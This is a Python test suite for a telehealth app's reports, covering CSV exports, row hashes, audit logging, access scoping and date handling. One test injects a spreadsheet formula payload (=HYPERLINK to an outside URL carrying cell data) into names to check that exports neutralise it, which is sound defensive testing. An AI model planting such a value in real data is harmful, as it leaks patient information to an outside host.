"""Every report: its page, its file, its trail, its scope."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date, timedelta
from typing import Any

import pytest

from sessions.models import RosterState
from telehealth.accounts.models import User
from telehealth.audit.models import AuditEvent
from telehealth.programs.models import Program, ProgramMembership, Track
from telehealth.reports.selectors import KINDS
from telehealth.reports.urls import KEYS
from tests.cast import Cast
from tests.sessions.pages.browsing import Browser, words
from tests.sessions.pages.stories import example_b

pytestmark = pytest.mark.django_db
RANGE = {"from_on": "2026-03-01", "to_on": "2026-03-07"}
DAY = timedelta(days=1)


def page(cast: Cast, key: str, who: str = "admin", **query: str) -> str:
    return Browser(getattr(cast, who), cast.at).read(f"reports:{key}", **{**RANGE, **query})


def lines(cast: Cast, key: str, who: str = "admin", **query: str) -> list[list[str]]:
    answer = Browser(getattr(cast, who), cast.at).get(f"reports:{key}_csv", **{**RANGE, **query})
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.content.decode(), newline=""), strict=True))


def table(cast: Cast, key: str, who: str = "admin", **query: str) -> list[dict[str, str]]:
    """Give the rows of a file by column, its header lines taken off."""
    found = lines(cast, key, who, **query)
    start = next(number for number, line in enumerate(found) if line[-1] == "row_sha256")
    return [dict(zip(found[start], line, strict=True)) for line in found[start + 1 :]]


def test_every_report_has_its_routes() -> None:
    assert tuple(KINDS) == KEYS


def test_the_index_names_every_report(cast: Cast) -> None:
    text = Browser(cast.auditor, cast.at).read("reports:index")
    for kind in KINDS.values():
        assert kind.title in text
        assert kind.purpose in text


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("who", ["admin", "auditor"])
def test_a_report_opens_with_and_without_rows_and_its_file_has_the_header(
    cast: Cast, key: str, who: str
) -> None:
    assert "March 1, 2026 - March 7, 2026" in page(cast, key, who)
    example_b(cast)
    text = page(cast, key, who)
    assert KINDS[key].title in text
    found = lines(cast, key, who)
    head = {line[0]: line[1] for line in found[:11]}
    reader: User = getattr(cast, who)
    assert head == {
        "report": key,
        "program": "Harbor",
        "from": "2026-03-01",
        "until": "2026-03-07",
        "time_zone": "America/New_York",
        "track": "all",
        "generated_by": f"{reader.full_name} ({reader.pk})",
        "generated_at": "2026-03-04T15:00:00Z",
        "credit_terms": head["credit_terms"],
        "rows": str(len(found) - 12),
        "row_sha256": "SHA-256 of the row's other cells joined by line feeds",
    }
    assert head["credit_terms"].startswith("Default terms v1 from ")
    assert {len(line) for line in found} == {len(found[0])}
    for *cells, digest in found[12:]:
        assert hashlib.sha256("\n".join(cells).encode()).hexdigest() == digest


@pytest.mark.parametrize("key", KEYS)
def test_every_look_and_every_file_is_in_the_trail_with_its_filter(cast: Cast, key: str) -> None:
    page(cast, key, "auditor")
    lines(cast, key, "auditor")
    seen = AuditEvent.objects.filter(actor=cast.auditor, action__startswith="report.").order_by("seq")
    assert [event.action for event in seen] == ["report.viewed", "report.exported"]
    for event in seen:
        assert event.subject_id == str(cast.program.pk)
        assert event.data["report"] == key
        assert event.data["filters"] == {
            "program": str(cast.program.pk),
            "from": "2026-03-01",
            "until": "2026-03-07",
        }


@pytest.mark.parametrize("key", KEYS)
def test_no_cell_of_any_report_is_a_formula(cast: Cast, key: str) -> None:
    attack = '=HYPERLINK("https://example.org?"&A1,"x")'
    example_b(cast)
    User.objects.filter(pk__in=[cast.therapist.pk, cast.patient.pk, cast.admin.pk]).update(given_name=attack)
    Program.objects.filter(pk=cast.program.pk).update(name=attack)
    Track.objects.create(program=cast.program, name=attack)
    cells = [cell for line in lines(cast, key) for cell in line]
    assert f"'{attack}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("key", KEYS)
def test_a_report_of_another_program_or_track_is_not_found(cast: Cast, key: str) -> None:
    theirs = Track.objects.create(program=cast.other_program, name="Theirs")
    for query in ({"program": str(cast.other_program.pk)}, {"track": str(theirs.pk)}):
        for name in (f"reports:{key}", f"reports:{key}_csv"):
            assert Browser(cast.admin, cast.at).get(name, **RANGE, **query).status_code == 404
    for person in (cast.case_manager, cast.therapist, cast.patient, cast.system_admin):
        assert Browser(person, cast.at).get(f"reports:{key}", **RANGE).status_code == 403


@pytest.mark.parametrize("key", [key for key in KEYS if key not in ("access", "census")])
def test_an_auditor_sees_the_dates_of_the_seat_only(cast: Cast, key: str) -> None:
    example_b(cast)
    seat = ProgramMembership.objects.filter(user=cast.auditor)
    seat.update(sees_from=date(2026, 3, 4), sees_until=date(2026, 3, 31))
    assert "March 4, 2026 - March 7, 2026" in page(cast, key, "auditor")
    assert "Tuesday group" not in page(cast, key, "auditor")
    assert table(cast, key, "auditor") == []
    seat.update(sees_from=date(2026, 4, 1), sees_until=date(2026, 4, 30))
    assert "None of these days are within what you may see." in page(cast, key, "auditor")


def test_an_expired_seat_sees_no_report(cast: Cast) -> None:
    ProgramMembership.objects.filter(user=cast.auditor).update(ends_on=cast.at.date() - DAY)
    assert "your access has ended" in page(cast, "census", "auditor")
    assert Browser(cast.auditor, cast.at).get("reports:census_csv", **RANGE).status_code == 404


def test_days_in_the_wrong_order_and_too_many_are_refused_beside_their_field(cast: Cast) -> None:
    wrong = page(cast, "census", from_on="2026-03-09", to_on="2026-03-01")
    assert "This day lies before the first one." in wrong
    assert "A report spans 400 days at most" in page(cast, "census", from_on="2024-03-09", to_on="2026-03-01")
    assert "Enter a valid date" in page(cast, "census", from_on="yesterday")


def test_the_usual_range_is_the_last_four_weeks(cast: Cast) -> None:
    answer = Browser(cast.admin, cast.at).get("reports:census")
    assert "February 5, 2026 - March 4, 2026" in words(answer)
    assert b'value="2026-02-05"' in answer.content
    assert "January 4, 2026 - January 31, 2026" in page(cast, "census", from_on="", to_on="2026-01-31")


def test_a_long_report_shows_its_beginning_and_says_what_is_left(cast: Cast, monkeypatch: Any) -> None:
    example_b(cast)
    monkeypatch.setattr("telehealth.reports.document.MOST_ROWS", 1)
    text = page(cast, "attendance")
    assert "The first 1 rows are shown; 1 more are in the file." in text
    assert len(table(cast, "attendance")) == 2


def test_the_attendance_file_holds_the_worked_example(cast: Cast) -> None:
    group = example_b(cast)
    (row,) = [
        each
        for each in table(cast, "attendance")
        if each["patient_id"] == str(cast.record_of(cast.patient).pk)
    ]
    expected = {
        "initials": "PE",
        "service_date": "2026-03-03",
        "session_id": str(group.pk),
        "opened_at": "2026-03-03T14:00:00Z",
        "first_admitted": "2026-03-03T14:12:20Z",
        "last_left": "2026-03-03T17:09:00Z",
        "raw_intervals": "2026-03-03T14:12:20Z/2026-03-03T15:02:00Z; "
        "2026-03-03T15:03:30Z/2026-03-03T16:10:00Z; 2026-03-03T16:17:10Z/2026-03-03T17:09:00Z",
        "bridged_seconds": "90",
        "group_size": "2",
        "qualified_seconds": "9270",
        "credited_min": "154",
        "decided_min": "154",
        "billable_min": "153",
        "status": "PARTIAL",
        "flags": "BRIDGED EARLY_LEAVE LATE",
        "is_final": "yes",
        "roster_state": "COMPUTED",
        "attested_by": "",
        "terms_version": "1",
        "enrollment_id": str(cast.enrollment_of(cast.patient).pk),
    }
    assert {name: row[name] for name in expected} == expected
    assert group.roster_state == RosterState.COMPUTED
